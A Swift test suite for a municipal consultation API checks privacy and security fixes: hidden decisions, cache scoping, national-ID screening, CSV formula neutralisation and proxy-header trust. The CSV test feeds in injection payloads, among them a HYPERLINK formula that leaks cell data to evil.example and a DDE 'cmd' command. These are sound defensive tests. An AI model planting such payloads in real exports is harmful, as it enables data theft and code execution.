import Foundation
import HTTPTypes
import Hummingbird
import Logging
import MedvirkCore
@testable import MedvirkServer
import MedvirkStore
import NIOCore
import NIOEmbedded
import Testing

/// One test per kind of fault the privacy and security audit found (issue 13).
@Suite struct PrivacyAuditTests {
    func feed(_ api: API, token: String? = nil) async throws -> [String] {
        try await api.get("/v1/changes?after=0&limit=200", token: token).data.map {
            "\($0["type"] as! String) \($0["id"] as! String) \($0["action"] as! String)"
        }
    }

    /// A council meeting with two present voting members, and an agenda item of the given visibility.
    func councilMeeting(_ api: API, _ m: String, council: String) async throws -> String {
        var voters: [String] = []
        for name in ["A", "B"] {
            voters.append(try await api.create("/v1/councils/\(council)/members",
                                               #"{"name":"\#(name)","role":"member","group":"users","voting":true,"term_start":"2020-01-01"}"#))
        }
        let meeting = try await seedMeeting(api, municipality: m, council: council)
        _ = try await api.call(.put, "/v1/meetings/\(meeting)/minutes", token: api.service.admin,
                               body: #"{"text":"Referat","present":["\#(voters[0])","\#(voters[1])"]}"#)
        return meeting
    }

    // MARK: 1. Nothing is more public than what it belongs to

    @Test func aDecisionIsAsPrivateAsItsAgendaItem() async throws {
        try await withAPI { api in
            let (m, _) = try await seedMunicipality(api)
            let council = try await seedCouncil(api, municipality: m)
            let meeting = try await councilMeeting(api, m, council: council)
            let item = try await api.create("/v1/meetings/\(meeting)/agenda-items", #"{"title":"Personalesag","kind":"decision","public":false}"#)
            let decision = try await api.create("/v1/meetings/\(meeting)/agenda-items/\(item)/decisions",
                                                #"{"text":"Fortroligt","votes":{"for":2,"against":0,"abstain":0}}"#)
            let partner = try await api.service.token(.partner)
            for token in [nil, partner] {
                expectProblem(try await api.get("/v1/decisions/\(decision)", token: token), .notFound)
                expectProblem(try await api.get("/v1/decisions/\(decision)/follow-up", token: token), .notFound)
                #expect(try await api.get("/v1/councils/\(council)/decisions", token: token).data.isEmpty)
                #expect(!(try await feed(api, token: token)).contains { $0.hasPrefix("decision ") })
                let report = try await api.get("/v1/reports/council-activity?municipality=\(m)", token: token)
                let decisions = try #require((report.json["councils"] as? [[String: Any]])?.first?["decisions"] as? [String: Int])
                #expect(decisions["pending"] == 0, "a closed item's decision is not counted for \(token == nil ? "anonymous" : "partner")")
            }
            #expect(try await api.get("/v1/decisions/\(decision)", token: api.service.admin).status == .ok)
            #expect(try await api.get("/v1/councils/\(council)/decisions", token: api.service.admin).data.count == 1)

            // Opening the item publishes the decision; closing it again takes it back.
            try expectOK(try await api.patch("/v1/meetings/\(meeting)/agenda-items/\(item)", #"{"public":true}"#))
            #expect(try await api.get("/v1/decisions/\(decision)").status == .ok)
            #expect(try await feed(api).contains("decision \(decision) created"))
            try expectOK(try await api.patch("/v1/meetings/\(meeting)/agenda-items/\(item)", #"{"public":false}"#))
            expectProblem(try await api.get("/v1/decisions/\(decision)"), .notFound)
            #expect(try await feed(api).contains("decision \(decision) deleted"))
        }
    }

    @Test func derivedViewsShowOnlyWhatTheCallerCouldReadOneByOne() async throws {
        try await withAPI { api in
            let (m, _) = try await seedMunicipality(api)
            let council = try await seedCouncil(api, municipality: m)
            let now = api.service.clock.now()
            let draft = try await api.create("/v1/consultations", #"""
                {"municipality_id":"\#(m)","title":"Hemmeligt udkast","status":"draft",
                 "opens_at":"\#(rfc3339(now))","closes_at":"\#(rfc3339(now + 86_400))"}
                """#)
            try await api.create("/v1/consultations/\(draft)/parties", #"{"name":"Brugerrådet","kind":"council","council_id":"\#(council)"}"#)
            // A private meeting held this year, and a public meeting linking the draft consultation.
            try await seedMeeting(api, municipality: m, council: council, extra: #","public":false,"status":"held""#)
            let open = try await seedMeeting(api, municipality: m, council: council, extra: #","consultation_id":"\#(draft)""#)

            let anonymous = try await api.get("/v1/reports/council-activity?municipality=\(m)")
            let row = try #require((anonymous.json["councils"] as? [[String: Any]])?.first)
            #expect((row["consultations"] as? [Any])?.isEmpty == true, "a draft consultation is not listed to the public")
            #expect(row["meetings_held"] as? Int == 0, "a private meeting is not counted for the public")
            #expect(!anonymous.text.contains("Hemmeligt"))
            let csv = try await api.get("/v1/reports/council-activity?municipality=\(m)&format=csv")
            #expect(!csv.text.contains(draft))
            let admin = try await api.get("/v1/reports/council-activity?municipality=\(m)", token: api.service.admin)
            let adminRow = try #require((admin.json["councils"] as? [[String: Any]])?.first)
            #expect((adminRow["consultations"] as? [Any])?.count == 1 && adminRow["meetings_held"] as? Int == 1)

            #expect(try await api.get("/v1/meetings/\(open)").json["consultation_id"] == nil, "no link to a consultation the caller cannot read")
            #expect(try await api.get("/v1/meetings/\(open)", token: api.service.admin).string("consultation_id") == draft)
            #expect(!(try await api.get("/v1/meetings?municipality=\(m)").text.contains(draft)))
        }
    }

    // MARK: 2. The public cache never outlives a write

    @Test func aWriteThatHidesAResourceIsSeenByTheNextReadWhateverTheQuery() async throws {
        try await withAPI { api in
            let (m, _) = try await seedMunicipality(api)
            try await api.create("/v1/municipalities", #"{"id":"nordvik","name":"Nordvik","country":"NO","time_zone":"Europe/Oslo"}"#)
            let consultation = try await seedConsultation(api, municipality: m)
            let partner = try await api.service.token(.partner)
            let id = try #require(try await submit(api, consultation, token: partner, key: "cache-1").string("id"))
            try expectOK(try await api.patch("/v1/responses/\(id)", #"{"status":"published"}"#))
            // A single response takes no query parameters: any is a 400, never a cached answer.
            let variants = ["", "?municipality=nordvik", "?municipality=NORDVIK", "?municipality=\(m)", "?municipality=nordvik&municipality=\(m)",
                            "?municip%61lity=\(m)&municipality=nordvik", "?limit=5", "?anything=1"]
            for query in variants { #expect(try await api.get("/v1/responses/\(id)\(query)").status == (query.isEmpty ? .ok : .badRequest)) }
            let lists = ["", "?limit=10", "?cursor=x"].map { "/v1/consultations/\(consultation)/responses\($0)" }
                + ["/v1/consultations?municip%61lity=\(m)&municipality=nordvik", "/v1/consultations?municipality=\(m)"]
            let other = try await seedConsultation(api, municipality: m)
            for path in lists { _ = try await api.get(path) }
            #expect(try await api.get(lists.last!).text.contains(other))
            try expectOK(try await api.patch("/v1/consultations/\(other)", #"{"status":"withdrawn"}"#))
            for path in lists.suffix(2) { #expect(!(try await api.get(path).text.contains(other)), "\(path)") }
            try expectOK(try await api.patch("/v1/responses/\(id)", #"{"status":"withheld","withheld_reason":"Krænkende"}"#))
            for query in variants {
                expectProblem(try await api.get("/v1/responses/\(id)\(query)"), query.isEmpty ? .notFound : .badRequest)
            }
            for path in lists where !path.contains("cursor") { #expect(!(try await api.get(path).text.contains(id)), "\(path)") }
        }
    }

    /// Only a route whose contract declares `municipality` lets it choose the cache generation, and only a plain slug.
    @Test func theCacheScopeIsNeverAValueTheRouteIgnores() async throws {
        let contract = try ContractDocument.parse(contractText)
        for (key, operation) in contract.operations where key.hasPrefix("GET ") {
            let path = String(key.dropFirst(4))
            let route = RouteTable.Route(template: path, allowed: ["GET"], operations: ["GET": operation])
            for query in ["municipality=nordvik", "municipality=NORDVIK", "municipality=nord%76ik", "municipality=", "municip%61lity=nordvik",
                          "municip%61lity=fjordby&municipality=nordvik", "municipality=nordvik&municipality=nordvik"] {
                var context = MedvirkRequestContext(source: .init(channel: NIOAsyncTestingChannel(), logger: Logger(label: "test")))
                context.route = route
                let request = Request(head: .init(method: .get, scheme: nil, authority: nil, path: "\(path)?\(query)"),
                                      body: .init(buffer: ByteBuffer()))
                let scope = PublicCacheMiddleware.scope(request, context)
                // Names and values are decoded as the generated handler decodes them; one plain slug names the owner.
                let single = ["municipality=nordvik", "municipality=nord%76ik", "municip%61lity=nordvik"].contains(query)
                let expected = operation.queryParameters.contains("municipality") && single ? "nordvik" : "*"
                #expect(scope == expected, "\(key) with \(query)")
            }
        }
    }

    // MARK: 3. National identity numbers in every common spelling

    @Test(arguments: [
        ("CPR 120385 1233 i teksten", true), ("CPR 120385 – 1233", true), ("CPR 120385 - 1233", true), ("CPR 120385—1233", true),
        ("Født 12.03.85-1233", true), ("Født 12.03.85 – 1233", true), ("120385\t1233", true), ("120385\n1233", true), ("12-03-85-1233", true), ("Fnr 010190 12480 her", true),
        ("Fødselsnummer 311299 49980", true), ("Fødselsnummer 311299-49980", true), ("120385-1233.", true),
        // Not numbers: phones, amounts, receipts, dates alone, longer runs.
        ("Ring 20 12 85 12 eller +45 31 12 85 12", false), ("Beløb 1.203.851.233 kr.", false), ("Kvittering RUD-2026-000123", false),
        ("Mødet 12.03.85 kl. 10", false), ("Næste møde 12.03.27 1400 i salen", false), ("Født 12.03.85 1233", false), ("Dato 12.03.1985-1233", false), ("Konto 1203851233445", false), ("Lang 120385-12334", false),
        ("Postnummer 2970 og 120385", false), ("Tlf. 45 20 30 40 50", false), ("Ugyldig dato 320385 1233", false),
    ])
    func nationalIdSpellings(text: String, found: Bool) {
        #expect(NationalIdScreening.containsNationalId(text) == found, "\(text)")
    }

    @Test func everyTextThatWouldBePublishedIsScreened() async throws {
        try await withAPI { api in
            let (m, _) = try await seedMunicipality(api)
            let consultation = try await seedConsultation(api, municipality: m)
            let partner = try await api.service.token(.partner)
            // The respondent's organisation is public: flagged, and unpublishable until redacted.
            let reply = try await api.call(.post, "/v1/consultations/\(consultation)/responses", token: partner, body: #"""
                {"respondent":{"kind":"organisation","name":"X","organisation":"Forening 120385 - 1233"},"text":"Vi støtter forslaget."}
                """#, headers: ["Idempotency-Key": "org-1"])
            let id = try #require(reply.string("id"))
            #expect(reply.json["contains_national_id"] as? Bool == true)
            let refused = try await api.patch("/v1/responses/\(id)", #"{"status":"published"}"#)
            expectProblem(refused, .unprocessableContent)
            #expect(refused.fieldErrors == ["respondent.organisation"])
            try expectOK(try await api.patch("/v1/responses/\(id)", #"{"status":"published","redactions":["120385 - 1233"]}"#))
            #expect(try await api.get("/v1/responses/\(id)").json["respondent"].flatMap { ($0 as? [String: Any])?["organisation"] as? String } == "Forening […]")

            // Admin-written public text: a 422 naming the field; a closed item may hold it.
            let council = try await seedCouncil(api, municipality: m)
            let meeting = try await councilMeeting(api, m, council: council)
            let publicItem = try await api.call(.post, "/v1/meetings/\(meeting)/agenda-items", token: api.service.admin,
                                                body: #"{"title":"Sag om 12.03.85-1233","kind":"decision"}"#)
            expectProblem(publicItem, .unprocessableContent)
            #expect(publicItem.fieldErrors == ["title"])
            let closed = try await api.create("/v1/meetings/\(meeting)/agenda-items", #"{"title":"Sag om 12.03.85-1233","kind":"decision","public":false}"#)
            let opening = try await api.patch("/v1/meetings/\(meeting)/agenda-items/\(closed)", #"{"public":true}"#)
            expectProblem(opening, .unprocessableContent)
            let item = try await api.create("/v1/meetings/\(meeting)/agenda-items", #"{"title":"Budget","kind":"advice"}"#)
            let decision = try await api.call(.post, "/v1/meetings/\(meeting)/agenda-items/\(item)/decisions", token: api.service.admin,
                                              body: #"{"text":"Jf. 120385 1233","votes":{"for":1,"against":0,"abstain":0}}"#)
            expectProblem(decision, .unprocessableContent)
            #expect(decision.fieldErrors == ["text"])
            let ok = try await api.create("/v1/meetings/\(meeting)/agenda-items/\(item)/decisions", #"{"text":"Anbefales","votes":{"for":1,"against":0,"abstain":0}}"#)
            let feedback = try await api.patch("/v1/decisions/\(ok)/follow-up", #"{"status":"not_followed","feedback":"Borger 120385-1233 klagede"}"#)
            expectProblem(feedback, .unprocessableContent)
            #expect(feedback.fieldErrors == ["feedback"])
            let other = try await seedMeeting(api, municipality: m, council: council)
            let minutes = try await api.call(.put, "/v1/meetings/\(other)/minutes", token: api.service.admin, body: #"{"text":"Deltager 120385 – 1233"}"#)
            expectProblem(minutes, .unprocessableContent)
            let document = try await api.call(.post, "/v1/consultations", token: api.service.admin, body: #"""
                {"municipality_id":"\#(m)","title":"Høring","opens_at":"2026-01-01T00:00:00Z","closes_at":"2026-02-01T00:00:00Z",
                 "documents":[{"title":"Bilag for 120385 1233","url":"https://example.dk/a.pdf"}]}
                """#)
            expectProblem(document, .unprocessableContent)
            #expect(document.fieldErrors == ["documents[0].title"])
            let party = try await api.call(.post, "/v1/consultations/\(consultation)/parties", token: api.service.admin,
                                           body: #"{"name":"Part 120385-1233","kind":"organisation"}"#)
            #expect(party.fieldErrors == ["name"])
            let councilText = try await api.patch("/v1/councils/\(council)", #"{"description":"Formand 120385-1233"}"#)
            #expect(councilText.status == .unprocessableContent && councilText.fieldErrors == ["description"])

            // Text written while a meeting was private is screened too (minutes, decisions on public items),
            // and making the meeting public with such text stored before is refused.
            let closedMeeting = try await seedMeeting(api, municipality: m, council: council, extra: #","public":false"#)
            let privateMinutes = try await api.call(.put, "/v1/meetings/\(closedMeeting)/minutes", token: api.service.admin,
                                                    body: #"{"text":"Borger 120385 1233 deltog"}"#)
            #expect(privateMinutes.status == .unprocessableContent)
            let opened = try await api.patch("/v1/meetings/\(closedMeeting)", #"{"public":true}"#)
            #expect(opened.status == .ok, "nothing unscreened is stored, so it opens")
        }
    }

    // MARK: 4. Spreadsheet formula injection

    @Test func everyCSVCellThatStartsAFormulaIsNeutralisedAndImportsBackExactly() async throws {
        try await withAPI { api in
            let (m, area) = try await seedMunicipality(api)
            let names = [#"=HYPERLINK(\"https://evil.example/?d=\"&I3,\"Klik\")"#, "+1", "-1", "@SUM(A1)", "'=1+2", "'plain", "\\tTab", "Almindelig"]
            for name in names {
                try await api.create("/v1/dialogue-channels", #"""
                    {"municipality_id":"\#(m)","service_area_id":"\#(area)","target_group":"service_users","user_category":"elderly",
                     "purpose":"formal","kind":"newsletter","name":"\#(name)"}
                    """#)
            }
            let export = try await api.get("/v1/dialogue-overview?municipality=\(m)&format=csv")
            let cells = parseCSV(String(export.text.dropFirst())).dropFirst().map { $0[6] }
            #expect(Set(cells) == [#"'=HYPERLINK("https://evil.example/?d="&I3,"Klik")"#, "'+1", "'-1", "'@SUM(A1)", "''=1+2", "''plain", "'\tTab", "Almindelig"])
            // Imported back (the rows carry their ids, so they update the same channels), the names are as typed.
            try expectOK(try await api.call(.post, "/v1/dialogue-channels/import?municipality=\(m)", token: api.service.admin,
                                            body: export.text, contentType: "text/csv"))
            let imported = try await api.get("/v1/dialogue-channels?municipality=\(m)&limit=50").data.compactMap { $0["name"] as? String }
            #expect(imported.count == names.count)
            #expect(Set(imported) == [#"=HYPERLINK("https://evil.example/?d="&I3,"Klik")"#, "+1", "-1", "@SUM(A1)", "'=1+2", "'plain", "\tTab", "Almindelig"])
            // A hand-typed '=1+2 imports as =1+2.
            let typed = "service_area,target_group,user_category,purpose,kind,name\r\nKultur,service_users,culture,formal,sms,'=1+2\r\n"
            let (o, _) = try await seedMunicipality(api, id: "tredjeby")
            try expectOK(try await api.call(.post, "/v1/dialogue-channels/import?municipality=\(o)", token: api.service.admin, body: typed, contentType: "text/csv"))
            #expect(try await api.get("/v1/dialogue-channels?municipality=\(o)").data.first?["name"] as? String == "=1+2")

            // The activity report's CSV and the response export neutralise too.
            try await seedCouncil(api, municipality: m, name: "=cmd|' /C calc'!A0")
            #expect(try await api.get("/v1/reports/council-activity?municipality=\(m)&format=csv").text.contains(#""'=cmd|' /C calc'!A0""#))
            let consultation = try await seedConsultation(api, municipality: m)
            let partner = try await api.service.token(.partner)
            try expectOK(try await api.call(.post, "/v1/consultations/\(consultation)/responses", token: partner, body: #"""
                {"respondent":{"kind":"citizen","name":"=HYPERLINK(1)","email":"a@b.dk","publish_name":true},"text":"@evil"}
                """#, headers: ["Idempotency-Key": "csv-1"]))
            var fields = HTTPFields()
            fields[.authorization] = "Bearer \(api.service.admin)"
            let response = try await api.client.execute(uri: "/v1/consultations/\(consultation)/responses/export?format=csv", method: .get,
                                                         headers: fields, body: nil)
            let text = try gunzip(Reply(status: response.status, headers: response.headers, text: ""), raw: response.body)
            #expect(text.contains(#""'=HYPERLINK(1)""#) && text.contains(#""'@evil""#) && !text.contains(#","=HYPERLINK"#))
        }
    }

    // MARK: 5. Keys and error bodies

    @Test func idempotencyKeysAreComparedAsTheBytesSent() async throws {
        try await withAPI { api in
            let (m, _) = try await seedMunicipality(api)
            let consultation = try await seedConsultation(api, municipality: m)
            let partner = try await api.service.token(.partner)
            let first = try await submit(api, consultation, token: partner, key: "dup-A")
            let encoded = try await submit(api, consultation, token: partner, key: "dup-%41")
            #expect(encoded.status == .created && encoded["Idempotency-Replayed"] == nil)
            #expect(encoded.string("receipt_number") != first.string("receipt_number"))
            let spaced = try await submit(api, consultation, token: partner, key: "a%20b")
            #expect(spaced.status == .created)
            #expect(try await submit(api, consultation, token: partner, key: "a%20b")["Idempotency-Replayed"] == "true")
        }
    }

    @Test func errorListsAreCapped() async throws {
        try await withAPI { api in
            let (m, _) = try await seedMunicipality(api)
            var csv = "service_area,target_group,user_category,purpose,kind,name\r\n"
            for _ in 0..<400 { csv += "X,bogus,bogus,bogus,bogus,\r\n" }
            let reply = try await api.call(.post, "/v1/dialogue-channels/import?municipality=\(m)", token: api.service.admin, body: csv, contentType: "text/csv")
            expectProblem(reply, .unprocessableContent)
            #expect(reply.fieldErrors.count == 100)
            #expect(reply.json["error_count"] as? Int == 2000)
        }
    }

    @Test func whatACallerMayNotReadIsA404WhateverTheReason() async throws {
        try await withAPI { api in
            let (m, _) = try await seedMunicipality(api)
            let consultation = try await seedConsultation(api, municipality: m)
            let partner = try await api.service.token(.partner)
            let id = try #require(try await submit(api, consultation, token: partner, key: "hidden-1").string("id"))
            let other = try await api.service.token(.partner)
            // The submitter reads its own response in full, as its receipt; nobody else sees it.
            let own = try await api.get("/v1/responses/\(id)", token: partner)
            #expect(own.status == .ok && own.string("status") == "received" && own.string("text") != nil)
            // It may read it, not moderate it: told so (403), not told it does not exist.
            expectProblem(try await api.patch("/v1/responses/\(id)", #"{"status":"published"}"#, token: partner), .forbidden)
            for token in [nil, other] {
                let unpublished = try await api.get("/v1/responses/\(id)", token: token)
                let madeUp = try await api.get("/v1/responses/res_doesnotexist", token: token)
                expectProblem(unpublished, .notFound)
                expectProblem(madeUp, .notFound)
                // Writes: the same answer as for a made-up id (anonymous writes are all 401 before any lookup).
                let write = try await api.call(.patch, "/v1/responses/\(id)", token: token, body: #"{"status":"published"}"#,
                                               contentType: "application/merge-patch+json")
                let madeUpWrite = try await api.call(.patch, "/v1/responses/res_doesnotexist", token: token, body: #"{"status":"published"}"#,
                                                     contentType: "application/merge-patch+json")
                expectProblem(write, token == nil ? .unauthorized : .notFound)
                #expect(write.status == madeUpWrite.status)
            }
            let draft = try await api.create("/v1/consultations", #"""
                {"municipality_id":"\#(m)","title":"Udkast","opens_at":"2026-01-01T00:00:00Z","closes_at":"2026-02-01T00:00:00Z"}
                """#)
            for token in [nil, partner] {
                expectProblem(try await api.get("/v1/consultations/\(draft)/responses/export", token: token), .notFound)
                let write = try await api.call(.patch, "/v1/consultations/\(draft)", token: token, body: #"{"title":"x"}"#,
                                               contentType: "application/merge-patch+json")
                expectProblem(write, token == nil ? .unauthorized : .notFound)
            }
            // Something the caller can see but may not change stays a 401/403.
            expectProblem(try await api.patch("/v1/consultations/\(consultation)", #"{"title":"x"}"#, token: partner), .forbidden)
        }
    }

    // MARK: 6. Operations surface

    @Test func metricsOnlyForAdminsAndConfiguredAddresses() async throws {
        try await withAPI { api in
            // The router test client has no peer address: it counts as a Unix socket peer, outside the loopback default.
            expectProblem(try await api.get("/metrics"), .notFound)
            expectProblem(try await api.get("/metrics", token: try await api.service.token(.partner)), .notFound)
            #expect(try await api.get("/metrics", token: api.service.admin).status == .ok)
            #expect(try await api.get("/metrics", headers: ["X-Forwarded-For": "127.0.0.1"]).status == .notFound, "an untrusted peer's header is ignored")
        }
        try await withAPI(configure: { $0.metricsFrom = [AddressRange("unix")!] }) { api in
            let reply = try await api.get("/metrics")
            #expect(reply.status == .ok)
        }
        try await withAPI(configure: { $0.trustedProxies = [AddressRange("unix")!]; $0.metricsFrom = [AddressRange("198.51.100.0/24")!] }) { api in
            let forwarded = try await api.get("/metrics", headers: ["X-Forwarded-For": "203.0.113.9, 198.51.100.7"])
            #expect(forwarded.status == .ok)
            // The proxy writes X-Forwarded-For: a Forwarded header is the client's own and is ignored.
            let forged = try await api.get("/metrics", headers: ["Forwarded": "for=198.51.100.20", "X-Forwarded-For": "203.0.113.9"])
            #expect(forged.status == .notFound)
            // /metrics/ and //metrics are the same route: never public, never cached.
            let slash = try await api.get("/metrics/", headers: ["X-Forwarded-For": "198.51.100.7"])
            #expect(slash.status == .ok && slash["Cache-Control"] == "private, no-store")
            expectProblem(try await api.get("/metrics/"), .notFound)
            expectProblem(try await api.get("//metrics"), .notFound)
        }
        try await withAPI(configure: {
            $0.trustedProxies = [AddressRange("unix")!]; $0.proxyHeader = .forwarded; $0.metricsFrom = [AddressRange("198.51.100.0/24")!]
        }) { api in
            let outside = try await api.get("/metrics", headers: ["Forwarded": #"for="[2001:db8::1]:443", for=203.0.113.9"#])
            #expect(outside.status == .notFound)
            let inside = try await api.get("/metrics", headers: ["Forwarded": "for=198.51.100.20;proto=https", "X-Forwarded-For": "203.0.113.9"])
            #expect(inside.status == .ok)
        }
    }

    @Test func theAddressLimitUsesTheForwardedAddressOnlyBehindATrustedProxy() async throws {
        let limit = RateLimit(perMinute: 1, burst: 3)
        try await withAPI(configure: { $0.addressRateLimit = limit; $0.trustedProxies = [AddressRange("unix")!] }) { api in
            for _ in 0..<3 { #expect(try await api.get("/healthz/../v1/councils", headers: ["X-Forwarded-For": "203.0.113.1"]).status != .tooManyRequests) }
            for _ in 0..<3 { _ = try await api.get("/v1/councils", headers: ["X-Forwarded-For": "203.0.113.1"]) }
            #expect(try await api.get("/v1/councils", headers: ["X-Forwarded-For": "203.0.113.1"]).status == .tooManyRequests)
            #expect(try await api.get("/v1/councils", headers: ["X-Forwarded-For": "203.0.113.2"]).status == .ok, "another client behind the proxy")
        }
        try await withAPI(configure: { $0.addressRateLimit = limit }) { api in
            for i in 0..<3 { _ = try await api.get("/v1/councils", headers: ["X-Forwarded-For": "203.0.113.\(i)"]) }
            #expect(try await api.get("/v1/councils", headers: ["X-Forwarded-For": "203.0.113.99"]).status == .tooManyRequests,
                    "without a trusted proxy the header chooses no bucket")
        }
    }

    @Test func clientAddressesFromProxyHeaders() {
        let ranges = [AddressRange("10.0.0.0/8")!, AddressRange("2001:db8::/32")!]
        func resolve(_ peer: String, _ headers: [String: String], header: ClientAddressResolver.ProxyHeader = .xForwardedFor) -> String {
            let resolver = ClientAddressResolver(trustedProxies: ranges, header: header)
            var fields = HTTPFields()
            for (name, value) in headers { fields[HTTPField.Name(name)!] = value }
            return resolver.resolve(peer: try! SocketAddress(ipAddress: peer, port: 1), headers: fields)
        }
        #expect(resolve("10.1.2.3", ["X-Forwarded-For": "6.6.6.6, 192.0.2.1, 10.9.9.9"]) == "192.0.2.1")
        #expect(resolve("192.0.2.50", ["X-Forwarded-For": "6.6.6.6"]) == "192.0.2.50")
        #expect(resolve("2001:db8::5", ["Forwarded": #"for="[2001:db8:cafe::17]:4711", for=198.51.100.3;proto=http"#], header: .forwarded) == "198.51.100.3")
        #expect(resolve("10.0.0.1", ["Forwarded": "for=192.0.2.43:8080", "X-Forwarded-For": "6.6.6.6"], header: .forwarded) == "192.0.2.43")
        #expect(resolve("10.0.0.1", ["Forwarded": "for=192.0.2.43:8080", "X-Forwarded-For": "6.6.6.6"]) == "6.6.6.6")
        #expect(resolve("10.0.0.1", [:]) == "10.0.0.1")
        #expect(AddressRange("::ffff:0:0/96") != nil && AddressRange("10.0.0.0/33") == nil && AddressRange("example.org") == nil)
        #expect(AddressRange("127.0.0.0/8")!.contains("::ffff:127.0.0.1"))
    }

    @Test func securityHeadersOnEveryAnswer() async throws {
        try await withAPI(configure: { $0.corsOrigins = ["https://kommune.example"] }) { api in
            let (m, _) = try await seedMunicipality(api)
            for path in ["/v1/councils", "/v1/nowhere", "/v1/meetings.ics", "/v1/dialogue-overview?municipality=\(m)&format=csv", "/openapi.yaml"] {
                let reply = try await api.get(path)
                #expect(reply["X-Content-Type-Options"] == "nosniff", "\(path)")
                #expect(reply.headers[values: .vary].contains { $0.contains("Origin") }, "\(path) varies on Origin")
                if reply["Content-Type"]?.contains("json") == true {
                    #expect(reply["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'", "\(path)")
                }
            }
            let cached = try await api.get("/v1/councils")
            #expect(cached["X-Content-Type-Options"] == "nosniff" && cached["Content-Security-Policy"] != nil)
        }
    }
}

@Suite struct CountsFollowReadabilityTests {
    /// Responses published under `after_deadline` are not counted for the public before the deadline.
    @Test func publishedCountsOnlyWhatThePublicCanRead() async throws {
        try await withAPI { api in
            let (m, _) = try await seedMunicipality(api)
            let consultation = try await seedConsultation(api, municipality: m, extra: #","publish_responses":"after_deadline""#)
            let partner = try await api.service.token(.partner)
            let id = try #require(try await submit(api, consultation, token: partner, key: "count-1").string("id"))
            try expectOK(try await api.patch("/v1/responses/\(id)", #"{"status":"published"}"#))
            #expect(try await api.get("/v1/consultations/\(consultation)").json["response_counts"] as? [String: Int] == ["received": 1, "published": 0])
            #expect(try await api.get("/v1/consultations/\(consultation)", token: api.service.admin).json["response_counts"] as? [String: Int]
                    == ["received": 1, "published": 1])
            await api.service.clock.advance(by: 2 * 86_400)
            #expect(try await api.get("/v1/consultations/\(consultation)").json["response_counts"] as? [String: Int] == ["received": 1, "published": 1])
        }
    }
}
